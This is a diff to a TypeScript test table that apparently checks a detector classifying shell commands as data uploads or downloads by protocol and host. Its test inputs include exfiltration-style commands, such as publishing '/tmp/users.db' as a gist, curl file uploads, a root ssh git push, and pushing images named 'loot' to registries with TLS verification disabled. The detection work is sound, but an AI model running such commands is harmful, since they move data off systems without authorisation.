@@ -142,13 +142,38 @@ const LINES: [string, Expected][] = [
     {
       tool: 'git',
       direction: 'upload',
-      protocol: 'http',
+      protocol: 'git',
       host: '198.51.100.12',
       port: 8080,
       confidence: 0.9,
     },
   ],
   ['git status', undefined],
+  [
+    'git remote add b http://git.example/x.git',
+    { direction: 'unknown', protocol: 'git', host: 'git.example' },
+  ],
+  ['/usr/lib/git-core/git-remote-https o https://git.example/x', { direction: 'unknown', protocol: 'git' }],
+  [
+    "ssh -i /keys/id root@git.example git-receive-pack 'x.git'",
+    { direction: 'upload', protocol: 'git', host: 'git.example' },
+  ],
+  [
+    'ssh git@git.example "git-upload-pack \'x.git\'"',
+    { direction: 'download', protocol: 'git', host: 'git.example' },
+  ],
+  ['gh gist create /tmp/users.db', { direction: 'upload', protocol: 'git', sourceFiles: ['/tmp/users.db'] }],
+  [
+    'docker buildx build --push -t r.example/x:1 .',
+    { direction: 'upload', protocol: 'registry', host: 'r.example' },
+  ],
+  ['docker build -t r.example/x:1 .', undefined],
+  ['ctr images push r.example/x:1', { direction: 'upload', protocol: 'registry', host: 'r.example' }],
+  [
+    'curl -X PATCH --data-binary @/tmp/u http://r.example:5000/v2/a/b/blobs/uploads/5?_state=x',
+    { direction: 'upload', protocol: 'registry', host: 'r.example', port: 5000 },
+  ],
+  ['curl -T /tmp/x https://h/v2/x', { direction: 'upload', protocol: 'https' }],
   ['docker push h:5000/x/loot:1', { direction: 'upload', protocol: 'registry', host: 'h', port: 5000 }],
   [
     'skopeo copy -q --dest-tls-verify=false docker-archive:/tmp/loot.tar docker://198.51.100.13:5000/x/loot:20346',
